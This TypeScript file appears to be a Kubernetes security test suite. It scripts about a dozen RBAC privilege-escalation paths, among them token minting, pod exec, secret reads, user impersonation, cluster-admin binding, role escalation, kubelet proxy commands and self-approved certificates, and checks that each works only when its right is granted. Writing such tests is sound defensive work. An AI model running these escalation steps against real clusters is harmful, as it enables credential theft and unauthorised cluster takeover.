import { NODE_NAME } from "../harness/control-plane";
import { must } from "../harness/exec";
import { read } from "./objects";
import { until } from "./until";
import type { Asked, Ground, Reviewed, Walk } from "./walks";
import {
    accountOf,
    ask,
    attacker,
    HOLDER,
    isHolder,
    MARKER,
    OTHER_WALKER,
    saidBy,
    saying,
    TOKEN_FILE,
    tokenOf,
    TREASURE,
    TREASURE_FILE,
    TREASURE_MOUNT,
    TREASURE_VOLUME,
    VAULT,
    WALKER,
    walker,
} from "./walks";

const RBAC = "rbac.authorization.k8s.io";
const CERTIFICATES = "certificates.k8s.io";
const MERGE = "application/merge-patch+json";
const STRATEGIC = "application/strategic-merge-patch+json";
/** What every refusal by a right says, of the authorizer, of escalation and of approval. */
const FORBIDDEN = /is forbidden/;
const READ_TREASURE = `require("fs").readFileSync("${TREASURE_FILE}")`;
const READ_TOKEN = `require("fs").readFileSync("${TOKEN_FILE}")`;

const toTreasure = (space: string): string => `secret:${space}/${TREASURE}`;
const toHolder = (space: string): string => `account:${space}/${HOLDER}`;
const toVault = (space: string): string => `pod:${space}/${VAULT}`;
const toAdmin = (): string => "cluster-admin";

/** What the account of a walk is answered; of a refusal the message, thrown. */
async function asked(ground: Ground, edge: string, method: string, path: string, what?: Asked): Promise<string> {
    const { ok, text } = await ask(ground.cluster, await tokenOf(ground, edge), method, path, what);
    if (!ok) {
        throw new Refused(
            (text.startsWith("{") ? (JSON.parse(text) as { message?: string }).message : undefined) ?? text,
        );
    }
    return text;
}

class Refused extends Error {}

/** A walk of which each refusal on the way is the answer. */
function way(walk: Omit<Walk, "refusal">): Walk {
    return {
        ...walk,
        refusal: FORBIDDEN,
        walk: async (ground) => {
            try {
                return await walk.walk(ground);
            } catch (error) {
                if (error instanceof Refused) {
                    return error.message;
                }
                throw error;
            }
        },
    };
}

const core = (space: string, rest: string): string => `/api/v1/namespaces/${space}/${rest}`;

function markerIn(secret: string): string {
    const { data } = JSON.parse(secret) as { data: Readonly<Record<string, string>> };
    return Buffer.from(data["marker"] ?? "", "base64").toString();
}

/** Ways by what the API server lets an account do. */
export const WALKS_BY_RIGHTS: readonly Walk[] = [
    way({
        edge: "read-secrets",
        to: toTreasure,
        objects: (space, open) => attacker(space, "read-secrets", "Role", [open ? "/secrets" : "/configmaps", "get"]),
        walk: async (ground) =>
            markerIn(await asked(ground, "read-secrets", "GET", core(ground.space, `secrets/${TREASURE}`))),
    }),
    way({
        edge: "mint-tokens",
        to: toHolder,
        objects: (space, open) =>
            attacker(space, "mint-tokens", "Role", [open ? "/serviceaccounts/token" : "/serviceaccounts", "create"]),
        walk: async (ground) => {
            const body = { apiVersion: "authentication.k8s.io/v1", kind: "TokenRequest", spec: {} };
            const path = core(ground.space, `serviceaccounts/${HOLDER}/token`);
            const text = await asked(ground, "mint-tokens", "POST", path, { body });
            return isHolder(ground, (JSON.parse(text) as { status: { token: string } }).status.token);
        },
    }),
    way({
        edge: "token-secret",
        to: toHolder,
        objects: (space, open) =>
            attacker(space, "token-secret", "Role", ["/secrets", "get", ...(open ? ["create"] : [])]),
        walk: async (ground) => {
            const metadata = { name: "minted", annotations: { "kubernetes.io/service-account.name": HOLDER } };
            const body = { apiVersion: "v1", kind: "Secret", metadata, type: "kubernetes.io/service-account-token" };
            await asked(ground, "token-secret", "POST", core(ground.space, "secrets"), { body });
            let token = "";
            await until("the token controller has filled the Secret", async () => {
                const text = await asked(ground, "token-secret", "GET", core(ground.space, "secrets/minted"));
                token = (JSON.parse(text) as { data?: { token?: string } }).data?.token ?? "";
                return token !== "";
            });
            return isHolder(ground, Buffer.from(token, "base64").toString());
        },
    }),
    way({
        edge: "run-commands",
        to: toVault,
        objects: (space, open) =>
            attacker(
                space,
                "run-commands",
                "Role",
                ["/pods", "get"],
                ...(open ? [["/pods/exec", "create"] as const] : []),
            ),
        walk: async ({ cluster, space }) => {
            const exec = ["exec", "-n", space, VAULT, "--as", accountOf(space, "run-commands"), "--", "/app/node"];
            const { code, stdout, stderr } = await cluster.kubectl.try([...exec, "-p", `String(${READ_TREASURE})`]);
            return code === 0 ? stdout.trim() : stderr;
        },
    }),
    way({
        edge: "debug-pods",
        to: toVault,
        objects: (space, open) =>
            attacker(space, "debug-pods", "Role", [open ? "/pods/ephemeralcontainers" : "/pods/log", "patch"]),
        walk: async (ground) => {
            const debug = {
                ...{ name: "debug", image: WALKER, imagePullPolicy: "Never", volumeMounts: [TREASURE_MOUNT] },
                ...saying(READ_TREASURE),
            };
            const body = { spec: { ephemeralContainers: [debug] } };
            const path = core(ground.space, `pods/${VAULT}/ephemeralcontainers`);
            await asked(ground, "debug-pods", "PATCH", path, { body, type: STRATEGIC });
            return saidBy(ground, VAULT, "debug");
        },
    }),
    way({
        edge: "create-workloads",
        to: toHolder,
        objects: (space, open) => attacker(space, "create-workloads", "Role", ["/pods", open ? "create" : "get"]),
        walk: async (ground) => {
            const spec = { serviceAccountName: HOLDER, automountServiceAccountToken: true };
            const body = walker(ground.space, "own", spec, saying(READ_TOKEN));
            await asked(ground, "create-workloads", "POST", core(ground.space, "pods"), { body });
            return isHolder(ground, await saidBy(ground, "own"));
        },
    }),
    way({
        edge: "change-workloads",
        to: toTreasure,
        objects: (space, open) => [
            ...attacker(space, "change-workloads", "Role", ["apps/deployments", open ? "patch" : "get"]),
            deployment(space),
        ],
        walk: async (ground) => {
            const { space } = ground;
            const reads = { name: "reads", image: WALKER, imagePullPolicy: "Never", volumeMounts: [TREASURE_MOUNT] };
            const script = `console.log(String(${READ_TREASURE})); setTimeout(() => undefined, 600000)`;
            const body = {
                spec: {
                    template: {
                        spec: {
                            volumes: [TREASURE_VOLUME],
                            containers: [{ ...reads, command: ["/app/node", "-e", script] }],
                        },
                    },
                },
            };
            const path = `/apis/apps/v1/namespaces/${space}/deployments/shop`;
            await asked(ground, "change-workloads", "PATCH", path, { body, type: STRATEGIC });
            return printed(ground, "deployment/shop", "reads");
        },
    }),
    way({
        edge: "change-pods",
        to: (space) => `pod:${space}/plain`,
        objects: (space, open) => [
            ...attacker(space, "change-pods", "Role", ["/pods", open ? "patch" : "get"]),
            walker(space, "plain", { restartPolicy: "Always" }),
        ],
        walk: async (ground) => {
            const { cluster, space } = ground;
            const body = { spec: { containers: [{ name: "main", image: OTHER_WALKER }] } };
            await asked(ground, "change-pods", "PATCH", core(space, "pods/plain"), { body, type: STRATEGIC });
            await until("the other image runs", async () => {
                const status = (await read(cluster, walker(space, "plain")))?.["status"];
                const [one] = (status as { containerStatuses: { image: string; ready: boolean }[] }).containerStatuses;
                return (one?.ready === true && one.image === OTHER_WALKER) || JSON.stringify(one);
            });
            return MARKER;
        },
    }),
    way({
        edge: "impersonate-users",
        to: toAdmin,
        objects: (space, open) =>
            attacker(space, "impersonate-users", "ClusterRole", ["/users", open ? "impersonate" : "get"]),
        walk: async (ground) => {
            const body = { apiVersion: "authentication.k8s.io/v1", kind: "SelfSubjectReview" };
            const headers = { "impersonate-user": "system:kube-controller-manager" };
            const path = "/apis/authentication.k8s.io/v1/selfsubjectreviews";
            const text = await asked(ground, "impersonate-users", "POST", path, { body, headers });
            const { username } = (JSON.parse(text) as Reviewed).status.userInfo;
            return username === "system:kube-controller-manager" ? MARKER : username;
        },
    }),
    way({
        edge: "bind-cluster-roles",
        to: toAdmin,
        objects: (space, open) =>
            attacker(
                space,
                "bind-cluster-roles",
                "ClusterRole",
                [`${RBAC}/clusterrolebindings`, "create", "delete"],
                ...(open ? [[`${RBAC}/clusterroles`, "bind"] as const] : []),
            ),
        walk: async (ground) => {
            const path = `/apis/${RBAC}/v1/clusterrolebindings`;
            const name = `walk-bound-${ground.space}`;
            const body = {
                metadata: { name },
                roleRef: { apiGroup: RBAC, kind: "ClusterRole", name: "cluster-admin" },
                subjects: [{ kind: "ServiceAccount", name: "bind-cluster-roles", namespace: ground.space }],
            };
            await asked(ground, "bind-cluster-roles", "POST", path, { body });
            try {
                return await readsEverywhere(ground, "bind-cluster-roles");
            } finally {
                await ground.cluster.request("DELETE", `${path}/${name}`);
            }
        },
    }),
    way({
        edge: "escalate-cluster-roles",
        to: toAdmin,
        objects: (space, open) =>
            attacker(space, "escalate-cluster-roles", "ClusterRole", [
                `${RBAC}/clusterroles`,
                "patch",
                ...(open ? ["escalate"] : []),
            ]),
        walk: async (ground) => {
            const path = `/apis/${RBAC}/v1/clusterroles/walk-escalate-cluster-roles-${ground.space}`;
            const body = { rules: [{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }] };
            await asked(ground, "escalate-cluster-roles", "PATCH", path, { body, type: MERGE });
            return readsEverywhere(ground, "escalate-cluster-roles");
        },
    }),
    way({
        edge: "kubelet-api",
        to: toVault,
        objects: (space, open) =>
            attacker(space, "kubelet-api", "ClusterRole", [open ? "/nodes/proxy" : "/nodes/metrics", "get", "create"]),
        walk: async (ground) => {
            const command = encodeURIComponent(`/app/node -p ${READ_TREASURE}.toString()`);
            const path = `/api/v1/nodes/${NODE_NAME}/proxy/run/${ground.space}/${VAULT}/main?cmd=${command}`;
            return (await asked(ground, "kubelet-api", "POST", path)).trim();
        },
    }),
    way({
        edge: "open-namespaces",
        to: () => "node",
        objects: (space, open) => {
            const guarded = guardedOf(space);
            const [account, role, binding] = attacker(guarded, "open-namespaces", "Role", ["/pods", "create"]);
            const label = attacker(space, "open-namespaces", "ClusterRole", ["/namespaces", open ? "patch" : "get"]);
            const metadata = { name: guarded, labels: { "pod-security.kubernetes.io/enforce": "restricted" } };
            const subjects = [{ kind: "ServiceAccount", name: "open-namespaces", namespace: space }];
            return [
                { apiVersion: "v1", kind: "Namespace", metadata },
                ...[account, role].flatMap((one) => one ?? []),
                ...(binding === undefined ? [] : [{ ...binding, subjects }]),
                ...label,
            ];
        },
        walk: async (ground) => {
            const guarded = guardedOf(ground.space);
            const body = { metadata: { labels: { "pod-security.kubernetes.io/enforce": "privileged" } } };
            const path = `/api/v1/namespaces/${guarded}`;
            await asked(ground, "open-namespaces", "PATCH", path, { body, type: MERGE });
            const pod = walker(
                guarded,
                "privileged",
                {},
                { securityContext: { privileged: true }, ...saying(`"${MARKER}"`) },
            );
            await asked(ground, "open-namespaces", "POST", core(guarded, "pods"), { body: pod });
            return saidBy({ ...ground, space: guarded }, "privileged");
        },
    }),
    way({
        edge: "approve-certificates",
        to: toAdmin,
        objects: (space, open) =>
            attacker(
                space,
                "approve-certificates",
                "ClusterRole",
                [`${CERTIFICATES}/certificatesigningrequests`, "create", "get"],
                [`${CERTIFICATES}/certificatesigningrequests/approval`, "update", "patch"],
                ...(open ? [[`${CERTIFICATES}/signers`, "approve"] as const] : []),
            ),
        walk: async (ground) => {
            const name = `walk-${ground.space}`;
            const path = `/apis/${CERTIFICATES}/v1/certificatesigningrequests`;
            const key = ["req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"];
            const request = await must("openssl", [...key, "-subj", `/CN=${name}`, "-keyout", "/dev/null"]);
            const spec = {
                request: Buffer.from(request).toString("base64"),
                signerName: "kubernetes.io/kube-apiserver-client",
                usages: ["client auth"],
            };
            const body = { metadata: { name }, spec };
            const text = await asked(ground, "approve-certificates", "POST", path, { body });
            try {
                const condition = { type: "Approved", status: "True", reason: "Walked", message: "by nobody" };
                const approved = { ...(JSON.parse(text) as object), status: { conditions: [condition] } };
                await asked(ground, "approve-certificates", "PUT", `${path}/${name}/approval`, { body: approved });
                await until("it is signed", async () => {
                    const now = await asked(ground, "approve-certificates", "GET", `${path}/${name}`);
                    return (JSON.parse(now) as { status?: { certificate?: string } }).status?.certificate !== undefined;
                });
                return MARKER;
            } finally {
                await ground.cluster.request("DELETE", `${path}/${name}`);
            }
        },
    }),
];

/** A namespace beside that of the walks, which takes restricted pods only. */
export const guardedOf = (space: string): string => `${space}-guarded`;

async function readsEverywhere(ground: Ground, edge: string): Promise<string> {
    let last = "";
    await until(
        "the right is in force",
        async () => {
            try {
                await asked(ground, edge, "GET", core("kube-system", "secrets"));
                return true;
            } catch (error) {
                last = error instanceof Refused ? error.message : String(error);
                return last;
            }
        },
        { seconds: 20 },
    );
    return MARKER;
}

function deployment(space: string) {
    const labels = { app: "shop" };
    const { spec } = walker(space, "shop", { restartPolicy: "Always" });
    return {
        apiVersion: "apps/v1",
        kind: "Deployment",
        metadata: { name: "shop", namespace: space },
        spec: { replicas: 1, selector: { matchLabels: labels }, template: { metadata: { labels }, spec } },
    };
}

/** What a container of a workload has printed, once it has. */
async function printed({ cluster, space }: Ground, workload: string, container: string): Promise<string> {
    let text = "";
    await until(`${workload} has printed something`, async () => {
        const { stdout, stderr } = await cluster.kubectl.try(["logs", "-n", space, workload, "-c", container]);
        text = stdout.trim();
        return text !== "" || stderr;
    });
    return text;
}
